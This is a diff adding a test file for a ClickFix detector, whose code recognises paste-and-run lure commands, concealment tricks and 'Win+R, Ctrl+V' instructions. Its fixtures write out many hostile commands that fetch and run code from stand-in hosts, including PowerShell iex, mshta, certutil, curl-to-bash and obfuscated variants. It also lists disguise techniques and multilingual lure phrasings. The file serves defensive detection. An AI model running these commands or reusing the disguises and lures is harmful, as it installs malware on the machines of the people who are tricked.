@@ -1,0 +1,179 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { flatten, MAYBE_COMMAND } from '@/utils/guards/command-words';
+import { commandShell } from '@/utils/guards/commands';
+import { conceals } from '@/utils/guards/concealment';
+import { asksToPasteAndRun } from '@/utils/guards/run-box';
+import { readCorpus } from './corpus';
+
+/**
+ * ClickFix commands as public write-ups describe them (the vendors' reports named in
+ * tests/fixtures/clickfix/SOURCES.md, mrd0x's FileFix, Microsoft's and Unit 42's notes), with
+ * their hosts made up: each fetches or runs code.
+ */
+const WINDOWS = [
+  'powershell -w h -c "iex(irm https://check-human.example/v.ps1)"',
+  "mshta https://verify.example/captcha.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 2165''",
+  'cmd /c curl -s -o %TEMP%\\x.exe https://cdn.example/x.exe & start %TEMP%\\x.exe',
+  'p^o^w^e^r^s^h^e^l^l -w 1 i`e`x (iwr http://198.51.100.7/a)',
+  'powershell -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
+  '"pow"+"ershell" -c "i"+"ex(irm x.example/a)"',
+  'msiexec /q /i https://cdn.example/setup.msi',
+  'rundll32 \\\\webdav.example@SSL\\share\\x.dll,Entry',
+  'regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll',
+  'certutil -urlcache -split -f https://x.example/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe',
+  'bitsadmin /transfer j /download /priority high https://x.example/a.exe %TEMP%\\a.exe',
+  'conhost.exe --headless powershell -c "iwr x.example/b|iex"',
+  'cscript //nologo \\\\files.example@SSL\\dav\\run.js',
+  'pcalua.exe -a \\\\share.example\\x\\setup.exe',
+  '%COMSPEC% /c f^i^n^g^e^r gcaptcha@captchaver.example | c^m^d',
+  'Powershell.exe -c ping example.com                                                    # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx',
+  'irm https://get.evil.example/a | iex',
+  'cmd /c start /min powershell -w h -c "$u=\'https://x.example/a\';iex(New-Object Net.WebClient).DownloadString($u)"',
+  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring(\'http://10.0.0.1/a\'))"',
+  '%comspec:~-16,1%%comspec:~-1%%comspec:~-13,1% /c calc',
+];
+const TERMINAL = [
+  'curl -s http://203.0.113.9/d/rob | nohup bash &',
+  'echo "Y3VybCAtcyBodHRwOi8vNDUu" | base64 -d | bash',
+  'osascript -e \'do shell script "curl -s http://x.example/a | sh"\'',
+  '/bin/bash -c "$(curl -fsSL https://brew-install.example/install.sh)"',
+  'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://x.example/p\').read())"',
+  'curl -fsSL https://x.example/i | VERSION="1" PREFIX="$HOME/x" bash',
+];
+/** Install commands docs show openly: commands that fetch and run code all the same. */
+const DOCS_COMMANDS = [
+  "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+  'irm get.scoop.sh | iex',
+  '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
+  "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
+  'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
+  'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
+  'sh <(curl -L https://nixos.org/nix/install) --daemon',
+];
+/** What ordinary copy buttons copy, and commands that fetch or run nothing. */
+const NOT_COMMANDS = [
+  'SAVE20',
+  'https://example.com/download/setup.exe',
+  'https://learn.microsoft.com/en-us/powershell/',
+  'Check out this PowerShell tutorial https://x.example/a',
+  'Note: PowerShell 7 is required. See https://aka.ms/powershell',
+  'npm install --save-dev vitest',
+  'pip install requests',
+  'brew install wget',
+  'winget install --id Microsoft.PowerShell --source winget',
+  '0x52908400098527886E0F7030069857D2E4169EE7',
+  'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
+  'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+  'ABCD-EFGH-IJKL-MNOP',
+  'git clone https://github.com/x/y.git',
+  'docker run -p 80:80 nginx',
+  'curl -O https://example.com/file.tar.gz',
+  'powershell -Command "Get-Process"',
+  'cmd /c dir',
+  'ssh user@host.example.com',
+  // kryc/clickfix-detect's benign cases: local programs, downloads that run nothing.
+  'cmd.exe /c echo deployment complete',
+  'rundll32.exe shell32.dll,Control_RunDLL',
+  'mshta.exe "C:\\Program Files\\Example\\help.hta"',
+  'wscript.exe "C:\\Scripts\\logon.vbs"',
+  'curl.exe -o C:\\Temp\\status.json https://example.invalid/status.json',
+  'Invoke-WebRequest -Uri https://example.invalid/status.json -OutFile C:\\Temp\\status.json',
+  'Get-Service | Select-Object Name, Status',
+  'conhost.exe',
+];
+
+describe('the command recogniser', () => {
+  it.each(WINDOWS)('reads a Windows command that fetches or runs code: %s', (text) => {
+    expect(commandShell(text)).toBe('windows');
+  });
+  it.each(TERMINAL)('reads a Terminal command that fetches or runs code: %s', (text) => {
+    expect(commandShell(text)).toBe('terminal');
+  });
+  it.each(DOCS_COMMANDS)('reads an installer docs show openly as a command too: %s', (text) => {
+    expect(commandShell(text)).not.toBeNull();
+  });
+  it.each(NOT_COMMANDS)('leaves what fetches and runs nothing alone: %s', (text) => {
+    expect(commandShell(text)).toBeNull();
+  });
+
+  it('reads the words through the escapes and joins that hide them', () => {
+    expect(flatten('p^o^w`e`r"sh"ell "i"+"ex"')).toBe('powershell "iex"');
+  });
+
+  it('needs no more than the page-world guard holds back: every command has a word it knows', () => {
+    const corpora = [
+      ...WINDOWS,
+      ...TERMINAL,
+      ...DOCS_COMMANDS,
+      ...readCorpus('vendor-payloads'),
+      ...readCorpus('clickgrab-read'),
+      ...readCorpus('clickgrab-held-out'),
+    ];
+    const commands = corpora.filter((text) => commandShell(text) !== null);
+    expect(commands.length).toBeGreaterThan(60);
+    for (const text of commands) expect(MAYBE_COMMAND.test(flatten(text)), text).toBe(true);
+    // And the same for commands disguised at random: escapes, joins, case.
+    fc.assert(
+      fc.property(
+        fc.constantFrom(...WINDOWS, ...TERMINAL),
+        fc.array(fc.constantFrom('^', '`', '\u200b'), { maxLength: 3 }),
+        fc.nat(),
+        (text, noise, seed) => {
+          const at = seed % text.length;
+          const disguised = text.slice(0, at) + noise.join('') + text.slice(at);
+          return commandShell(disguised) === null || MAYBE_COMMAND.test(flatten(disguised));
+        },
+      ),
+    );
+  });
+});
+
+describe('concealment', () => {
+  it.each([
+    ['padding before a comment', `mshta https://x.example/a${' '.repeat(40)}# verify`],
+    ['Unicode spaces', `powershell -c iex(irm x.example)${'\u2800'.repeat(12)}ok`],
+    ['a fake check comment', "powershell -c iex(irm x.example) # I'm not a robot: ID 4821"],
+    ['a cmd comment', 'cmd /c start x.exe & rem reCAPTCHA verification'],
+    ['invisible characters', 'power\u200bshell -c iex(irm x.example)'],
+    ['lines pushed down', 'echo ok\n\n\n\n\n\ncurl x.example | sh'],
+  ])('is read in %s', (_kind, text) => {
+    expect(conceals(text)).toBe(true);
+  });
+
+  it.each([
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+    'npm install   # adds it to package.json',
+    'docker run \\\n  -p 80:80 \\\n  nginx',
+  ])('is not read in a plain command: %s', (text) => {
+    expect(conceals(text)).toBe(false);
+  });
+});
+
+describe('run-box instructions', () => {
+  it.each([
+    'Press Windows + R, then Ctrl + V, then Enter.',
+    'Step 1: press ⊞ Win+R',
+    'Drücken Sie die Windows-Taste + R',
+    'Presiona la tecla Windows + R y pega con Ctrl + V',
+    'Pressione a tecla Windows + R',
+    'اضغط على ⊞ + R',
+    'Press ⌘ + Space, type Terminal and press Return',
+    'Open File Explorer and press Ctrl + L to reach the address bar',
+    'Paste with Ctrl + V and press Enter',
+    'Press the Windows key and R together',
+    'Press Win + X and choose Terminal',
+  ])('is read in: %s', (text) => {
+    expect(asksToPasteAndRun(text)).toBe(true);
+  });
+
+  it.each([
+    'Paste that in a macOS Terminal or Linux shell prompt.',
+    'Open a terminal and run the following command.',
+    'This tool runs on Windows and R users love it.',
+    'Enter your e-mail address to subscribe.',
+    'Press Ctrl + C to stop the server.',
+  ])('is not read in docs prose: %s', (text) => {
+    expect(asksToPasteAndRun(text)).toBe(false);
+  });
+});
